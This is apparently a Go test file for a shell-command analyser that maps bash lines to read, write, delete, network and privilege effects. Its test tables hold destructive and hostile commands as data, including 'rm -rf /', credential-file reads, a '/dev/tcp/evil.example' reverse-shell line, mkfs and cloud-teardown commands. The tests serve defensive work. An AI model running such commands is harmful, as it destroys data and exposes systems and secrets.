package bash

import (
	"cmp"
	"fmt"
	"slices"
	"strings"
	"testing"

	"cardea.dev"
)

// TestManyNames checks that many files become patterns by their endings, and few stay
// single names.
func TestManyNames(t *testing.T) {
	var all []string
	for i := range 100 {
		all = append(all, fmt.Sprintf("f%d.js", i), fmt.Sprintf("%d.txt", i))
	}
	all = append(all, "Makefile", "opencode.json", ".npmrc")
	env := system
	env.Names = func(string) ([]string, bool) { return all, true }
	var got []string
	for _, a := range Analyse("cp x/* src", env).Parts[0].Access {
		if a.Kind == cardea.Write {
			got = append(got, cmp.Or(a.Pattern, a.Path))
		}
	}
	if want := "/proj/src /proj/src/*.js /proj/src/*.txt /proj/src/Makefile /proj/src/opencode.json"; strings.Join(got, " ") != want {
		t.Errorf("%q, want %q", got, want)
	}
	all = nil
	for i := range 100 {
		all = append(all, fmt.Sprintf("f%d", i))
	}
	if got := effectsOf("cp x/* src", env); !slices.Contains(got, "write /proj/src*") {
		t.Errorf("%q", got)
	}
}

// TestAccess checks the accesses of a line, as "kind path" with marks for recursive (r)
// and redirected (>).
func TestAccess(t *testing.T) {
	tests := []struct{ line, want string }{
		{"rm -rf /", "delete /r"},
		{"rm / -rf", "delete /r"},
		{"rm -r -f -- /", "delete /r"},
		{"rm -rf $HOME ~/x", "delete /home/ur delete /home/u/xr"},
		{"rm -rf /tmp/{safe,../Users}", "delete /tmp/safer delete /Usersr"},
		{"rm -rf safe/../../../etc", "delete /etcr"},
		{"cd /tmp && rm -rf x", "read /tmp delete /tmp/xr"},
		{"cd src; cat ../x", "read /proj/x"},
		{"cd none; cat ../x", "read ?"},
		{"cd none && cat ../x", "read /proj/x"},
		{"cd none || exit; cat ../x", "read /proj/x"},
		{"cd none || { echo; exit 1; }; cat ../x", "read /proj/x"},
		{"cd none || true; cat ../x", "read ?"},
		{"exit() { :; }; cd none || exit; cat ../x", "read ?"},
		{"! cd none && cat ../x", "read ?"},
		{"if cd none; then cat ../x; fi", "read /proj/x"},
		{"if cd none; then :; else cat ../x; fi", "read ?"},
		{"cd src out; cat x", "read ? read ? read ?"},
		{"pushd -n src; cat x", "read ? read ?"},
		{"cd -P src; cat x", "read /proj/src/x"},
		{"rm -r src; cd src; cat ../x", "delete /proj/srcr read ?"},
		{"cd src && cat ../x; cat y", "read /proj/x read /proj/src/y"},
		{"cd none && cat ../x; cat y", "read /proj/x read ?"},
		{"cd $x; rm y", "read ? delete ?"},
		{"(cd /tmp); rm y", "read /tmp delete /proj/y"},
		{"cat a > b", "write /proj/b> read /proj/a"},
		{"cat > .c*/b", "write ?> write /proj*>"},
		{"cat < ~/.en*", "read ?> read /home/u*>"},
		{"cat > $x*", "write ?>"},
		{"cat < a >> b 2> c", "read /proj/a> write /proj/b> write /proj/c>"},
		{"cat a 2>/dev/null 2>&1", "read /proj/a"},
		{"x >| ~/.bashrc", "write /home/u/.bashrc> unknown ?"},
		{"x >& ~/.bashrc", "write /home/u/.bashrc> unknown ?"},
		{"x 1<> ~/.bashrc", "read /home/u/.bashrc> write /home/u/.bashrc> unknown ?"},
		{"x &> y", "write /proj/y> unknown ?"},
		{"> y", "write /proj/y>"},
		{"while read -r l; do :; done < .env", "read /proj/.env>"},
		{"exec 3<.env", "read /proj/.env>"},
		{"cp -r a b", "read /proj/ar write /proj/br"},
		{"cp -t d a", "read /proj/a write /proj/d write /proj/d/a"},
		{"mv a b", "delete /proj/ar write /proj/br"},
		// An existing folder gets names in it, and is not replaced.
		{"mv a src", "delete /proj/ar write /proj/src write /proj/src/ar"},
		{"mv a/x* /tmp/", "delete /proj/ar* write /tmp write /tmpr*"},
		{"mv a b none", "delete /proj/ar delete /proj/br write /proj/none write /proj/none/ar write /proj/none/br"},
		{"cp -r a src", "read /proj/ar write /proj/src write /proj/src/ar"},
		{"cp -r a/ src", "read /proj/ar write /proj/srcr write /proj/src/ar"},
		{"cp -r a/. src", "read /proj/ar write /proj/srcr"},
		{"mv -T a src", "delete /proj/ar write /proj/srcr write /proj/src/ar"},
		{"mv --no-targ a src", "delete /proj/ar write /proj/srcr write /proj/src/ar"},
		{"mv a none/", "delete /proj/ar write /proj/noner write /proj/none/ar"},
		{"mv $x src", "delete ?r write /proj/srcr write /proj/srcr*"},
		{"mv a* none", "delete /projr* write /proj/noner"},
		{"mv a* b none", "delete /projr* delete /proj/br write /proj/noner write /proj/noner* write /proj/none/br"},
		{"for i in 1 2; do cp -r a b; done", "read /proj/ar write /proj/br write /proj/b/ar read /proj/ar write /proj/br write /proj/b/ar"},
		{"for i in $x; do cp -r a b; done", "read /proj/ar write /proj/br write /proj/b/ar"},
		{"f() { cp -r a b; }; f", "read /proj/ar write /proj/br write /proj/b/ar"},
		{"rm -r src; mv a src", "delete /proj/srcr delete /proj/ar write /proj/srcr"},
		{"cd none; mv a src", "delete ?r write ?r"},
		{"tee a b", "write /proj/a> write /proj/b>"},
		{"sed -i s/a/b/ f", "read /proj/f write /proj/f"},
		{"sed s/a/b/ f", "read /proj/f"},
		{"grep -r x /etc", "read /etcr"},
		{"grep -e x f", "read /proj/f"},
		{"less -p ~/.ssh/id_rsa notes.txt", "read /proj/notes.txt"},
		{"sort -o out in", "read /proj/in write /proj/out"},
		{"find /x -delete", "delete /xr"},
		{"curl -o f https://User@Example.com:8/x", "network example.com write /proj/f"},
		{"git push -f", "network "},
		{"ls *.go", "read /proj*"},
		{"ls ~/.ssh/*", "read /home/u/.ssh*"},
		{"./x", "execute /proj/x unknown ?"},
		{"bash x.sh", "execute /proj/x.sh unknown ?"},
		{"/usr/bin/cat x", "read /proj/x"},
		{"/tmp/cat x", "execute /tmp/cat read /proj/x"},
		{"bash < /dev/tcp/evil.example/44", "network evil.example> unknown ?"},
		{"docker exec c rm -rf /x", "unknown ? network  delete ?r"},
		{"frobnicate x", "unknown ?"},
		{"mkfs.ext4 /dev/sdb1", "write /dev/sdb1"},
	}
	for _, tt := range tests {
		var got []string
		for _, p := range Analyse(tt.line, system).Parts {
			for _, a := range p.Access {
				s := string(a.Kind) + " " + a.Path
				if a.Kind == cardea.Network {
					s = string(a.Kind) + " " + a.Host
				} else if a.Path == "" {
					s += "?"
				}
				if a.Recursive {
					s += "r"
				}
				if a.Glob {
					s += "*"
				}
				if a.Redirect {
					s += ">"
				}
				got = append(got, s)
			}
		}
		if strings.Join(got, " ") != tt.want {
			t.Errorf("%q: %q, want %q", tt.line, strings.Join(got, " "), tt.want)
		}
	}
}

func TestCommandAndOptions(t *testing.T) {
	tests := []struct{ line, command, options, operands string }{
		{"git -C /x push -uf origin main", "git push", "-C=/x -u -f", "origin main"},
		{"git -c a.b=c commit -am '-f' --no-edit", "git commit", "-c=a.b=c -a -m=-f --no-edit", ""},
		{"git push --force=true -- -f", "git push", "--force=true", "-f"},
		{"git stash drop x", "git stash drop", "", "x"},
		{"npm run build -- --watch", "npm run build", "", "--watch"},
		{"docker compose -f x up", "docker compose up", "-f=x", ""},
		{"aws --profile p ec2 terminate-instances --instance-ids i-1", "aws ec2 terminate-instances", "--profile=p --instance-ids", "i-1"},
		{"tar -xzf a.tgz", "tar", "-x -z -f=a.tgz", ""},
		{"terraform destroy -auto-approve", "terraform destroy", "-auto-approve", ""},
		{"rm -rf a b", "rm", "-r -f", "a b"},
		{"/usr/bin/git status", "git status", "", ""},
		{"find . -name x -type f", "find", "-name=x -type=f", "."},
	}
	for _, tt := range tests {
		p := Analyse(tt.line, system).Parts[0]
		var options, operands []string
		for _, o := range p.Options {
			s := o.Name
			if o.Static {
				s += "=" + o.Value
			}
			options = append(options, s)
		}
		for _, i := range p.Operands {
			operands = append(operands, p.Argv[i].Text)
		}
		if got := strings.Join(p.Command, " "); got != tt.command {
			t.Errorf("%q: command %q, want %q", tt.line, got, tt.command)
		}
		if got := strings.Join(options, " "); got != tt.options {
			t.Errorf("%q: options %q, want %q", tt.line, got, tt.options)
		}
		if got := strings.Join(operands, " "); got != tt.operands {
			t.Errorf("%q: operands %q, want %q", tt.line, got, tt.operands)
		}
	}
}

func TestElevatedAndRemote(t *testing.T) {
	for _, tt := range []struct {
		line             string
		elevated, remote bool
		wrappers         string
	}{
		{"sudo rm x", true, false, "sudo"},
		{"sudo -u me timeout 5 rm x", true, false, "sudo timeout"},
		{"doas rm x", true, false, "doas"},
		{"su -c 'rm x'", true, false, "su"},
		{"pkexec rm x", true, false, "pkexec"},
		{"chroot /y rm x", true, true, "chroot"},
		{"ssh h rm x", true, true, "ssh"},
		{"docker exec c rm x", true, true, "docker exec"},
		{"systemd-run rm x", true, false, "systemd-run"},
		{"timeout 5 nice rm x", false, false, "timeout nice"},
		{"time rm x", false, false, "time"},
		{"bash -c 'rm x'", false, false, "bash"},
		{"sudo bash -c 'rm x'", true, false, "sudo bash"},
	} {
		parts := Analyse(tt.line, system).Parts
		i := slices.IndexFunc(parts, func(p cardea.Part) bool { return p.Text == "rm x" })
		if i < 0 {
			t.Errorf("%q: no part rm x in %v", tt.line, parts)
			continue
		}
		p := parts[i]
		if p.Elevated != tt.elevated || p.Remote != tt.remote || strings.Join(p.Wrappers, " ") != tt.wrappers {
			t.Errorf("%q: elevated %v remote %v wrappers %q", tt.line, p.Elevated, p.Remote, p.Wrappers)
		}
	}
}

// TestResolve checks that symlinks are followed and the spelling is kept.
func TestResolve(t *testing.T) {
	env := system
	env.Resolve = func(p string) string { return strings.Replace(p, "/proj/link", "/etc", 1) }
	p := Analyse("cat link/passwd", env).Parts[0]
	if a := p.Access[0]; a.Path != "/etc/passwd" || a.Spelled != "/proj/link/passwd" {
		t.Errorf("%+v", a)
	}
	if p := Analyse("cd link", env).Parts[0]; p.NoEffect {
		t.Errorf("a cd through a link that leaves the project is null")
	}
}
